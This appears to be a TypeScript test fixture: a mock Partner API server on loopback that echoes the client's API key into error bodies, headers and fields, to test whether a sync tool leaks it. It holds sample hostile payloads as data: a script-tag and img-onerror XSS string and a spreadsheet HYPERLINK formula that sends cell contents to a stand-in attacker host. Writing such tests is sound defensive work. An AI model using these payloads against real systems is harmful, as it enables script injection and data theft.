/**
 * A hostile stand-in for the Partner API on loopback: it answers with the key
 * it was sent echoed back wherever a server could put it (error bodies, field
 * errors, headers, a body of the wrong shape, a Retry-After that is not a
 * number), so that the campaign sees whether aa-sync repeats any of it.
 * Exports: `ECHO_MODES`, `EchoMode`, `EchoServer`, `startEchoServer`,
 * `HOSTILE_MESSAGE`, `HOSTILE_FIELD_ERROR`.
 */
import { createServer } from 'node:http';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** How the server misbehaves; each is one way a key could come back. */
export const ECHO_MODES = [
  'error-500',
  'refused-401',
  'refused-403',
  'invalid-422',
  'throttled-429',
  'wrong-shape',
  'not-json',
  'hostile-422',
] as const;
export type EchoMode = (typeof ECHO_MODES)[number];

export interface EchoServer {
  baseUrl: string;
  /** Requests answered so far. */
  readonly requests: number;
  setMode(mode: EchoMode): void;
  close(): Promise<void>;
}

/** Starts the server on a free loopback port, in mode `error-500`. */
export async function startEchoServer(): Promise<EchoServer> {
  let mode: EchoMode = 'error-500';
  let requests = 0;
  const server = createServer((request, response) => {
    requests += 1;
    request.resume();
    request.on('end', () => answer(mode, request, response));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    baseUrl: `http://127.0.0.1:${port}/api/v1`,
    get requests() {
      return requests;
    },
    setMode: (next) => (mode = next),
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

function answer(
  mode: EchoMode,
  request: IncomingMessage,
  response: ServerResponse,
): void {
  const key = String(request.headers['x-api-key'] ?? '');
  const echo = { key, headers: request.headers, url: request.url };
  const message = `request with key ${key} (Bearer ${key})`;
  const isRead = request.method === 'GET';
  // Reads succeed in the write modes, so that a plan is made and its writes meet the echo.
  if (
    isRead &&
    (mode === 'invalid-422' || mode === 'refused-403' || mode === 'hostile-422')
  ) {
    return send(response, 200, []);
  }
  response.setHeader('X-Echo-Key', key);
  response.setHeader('WWW-Authenticate', `Bearer realm="${key}"`);
  switch (mode) {
    case 'error-500':
      return send(response, 500, { message, ...echo });
    case 'refused-401':
      return send(response, 401, { message: `Unauthenticated: ${key}` });
    case 'refused-403':
      return send(response, 403, { message: `Forbidden for ${key}`, ...echo });
    case 'invalid-422':
      return send(response, 422, {
        message: `The given data was invalid for ${key}`,
        errors: { name: [`name refused for key ${key}`], [key]: [key] },
      });
    case 'throttled-429':
      response.setHeader('Retry-After', key);
      return send(response, 429, { message, retry_after: key });
    case 'wrong-shape':
      return send(response, 200, { data: key, message, organizations: key });
    case 'hostile-422':
      return send(response, 422, {
        message: HOSTILE_MESSAGE,
        errors: { name: [HOSTILE_FIELD_ERROR], '<img src=x onerror=alert(7)>': ['=1+1'] },
      });
    case 'not-json':
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end(`<html><body>${message}</body></html>`);
  }
}

/** An error body as a hostile server could write it: markup and a formula. */
export const HOSTILE_MESSAGE = '<script>window.__pwned = "error body"</script>refused';
export const HOSTILE_FIELD_ERROR = '=HYPERLINK("http://evil.example/?q="&A1,"fix me")';

function send(response: ServerResponse, status: number, body: unknown): void {
  response.writeHead(status, { 'Content-Type': 'application/json' });
  response.end(JSON.stringify(body));
}
